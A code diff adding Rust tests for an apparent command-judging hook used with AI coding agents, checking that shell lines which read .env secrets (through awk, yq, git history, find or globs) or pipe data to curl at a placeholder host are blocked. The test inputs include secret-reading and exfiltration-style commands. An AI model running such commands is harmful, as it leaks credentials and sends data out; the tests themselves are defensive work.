@@ -223,6 +223,90 @@ fn secrets_count_by_whichever_path_they_are_reached() {
 }
 
 #[test]
+fn cages_hide_the_secrets_near_the_top_alone() {
+    let project = project();
+    let at = project.path();
+    fs::create_dir_all(at.join("packages/api")).unwrap();
+    fs::write(at.join("packages/api/.env"), "TOKEN=1\n").unwrap();
+    for (line, status) in [
+        ("awk 1 .env", 0),
+        ("awk 1 src/.env", 0),
+        ("awk 1 packages/api/.env", 10),
+        ("cd packages && awk 1 api/.env", 10),
+        ("yq . packages/api/.env", 10),
+        ("for f in packages/*/.env; do awk 1 \"$f\"; done", 10),
+        ("git diff --no-index a packages/api/.env", 10),
+    ] {
+        let (judgement, found) = judged(at, None, line);
+        assert_eq!(found, status, "{line}: {judgement}");
+    }
+    // What find finds is known when the line runs.
+    let line = "find packages -name .env -exec awk 1 {} +";
+    let (status, stdout, stderr) = run(climax().current_dir(at).args(["sh", "--judged", "-c", line]));
+    assert!(
+        status != 0 && stdout.is_empty() && stderr.contains("has the name of a file with secrets"),
+        "{stdout}{stderr}"
+    );
+}
+
+#[test]
+fn secrets_of_older_commits_and_behind_patterns_count() {
+    let project = project();
+    for (line, status) in [
+        ("git blame HEAD~1 -- .env", 10),
+        ("git archive HEAD~1 .env", 10),
+        ("git log -p -- '*env'", 10),
+        ("git log -p -- ':(icase).ENV'", 10),
+        ("git diff HEAD~3 -- ':(glob).e*'", 10),
+        ("unzip -p c.zip '*nv'", 10),
+        ("git log -p -- '*.py' ':(exclude).env*'", 0),
+        ("git log -- '*'", 0),
+        ("grep -n '.*nv' a", 0),
+    ] {
+        let (judgement, found) = judged(project.path(), None, line);
+        assert_eq!(found, status, "{line}: {judgement}");
+    }
+}
+
+#[test]
+fn programs_behind_xargs_are_judged_as_others() {
+    let project = project();
+    for (line, status, reason) in [
+        ("seq 1 | xargs ./show.sh", 10, "no config describes `./show.sh`"),
+        ("seq 1 | xargs perl probe.pl", 10, "runs a program"),
+        ("seq 1 | xargs cat", 0, "only reads"),
+        ("git ls-files | xargs awk '{ print $1 }'", 0, "only reads"),
+        ("git rev-parse HEAD | xargs -I{} curl http://x.example/{}", 10, "would send"),
+    ] {
+        let (judgement, found) = judged(project.path(), None, line);
+        assert_eq!(found, status, "{line}: {judgement}");
+        assert!(judgement["reason"].as_str().unwrap().contains(reason), "{line}: {judgement}");
+    }
+}
+
+#[test]
+fn variables_of_a_line_go_with_a_shell_that_goes_with_it() {
+    let project = project();
+    for line in ["x=$(git rev-parse HEAD); echo \"$x\"", "set -e; git status; ls", "export LC_ALL=C; sort a | uniq -d"]
+    {
+        let message = json!({"tool_name": "Bash", "tool_input": {"command": line}, "cwd": project.path()}).to_string();
+        let rewritten = format!(" sh --judged -c '{line}'");
+        let (answer, _) = hook("claude-code", project.path(), &message);
+        let answer: Value = serde_json::from_str(&answer).unwrap();
+        let updated = answer["hookSpecificOutput"]["updatedInput"]["command"].as_str();
+        assert!(updated.is_some_and(|line| line.ends_with(&rewritten)), "{line}: {answer}");
+
+        // Other shells may live on.
+        let (judgement, status) = judged(project.path(), None, line);
+        assert_eq!(status, 10, "{line}: {judgement}");
+        assert!(judgement["reason"].as_str().unwrap().contains("in parentheses"), "{line}: {judgement}");
+    }
+    let message = json!({"tool_name": "Bash", "tool_input": {"command": "x=1; cd src; ls"}, "cwd": project.path()});
+    let (answer, _) = hook("claude-code", project.path(), &message.to_string());
+    assert!(!answer.contains("updatedInput"), "the next line starts where this one ends: {answer}");
+}
+
+#[test]
 fn logins_in_the_configuration_of_a_repository_are_secrets() {
     let project = project();
     let config = project.path().join(".git/config");
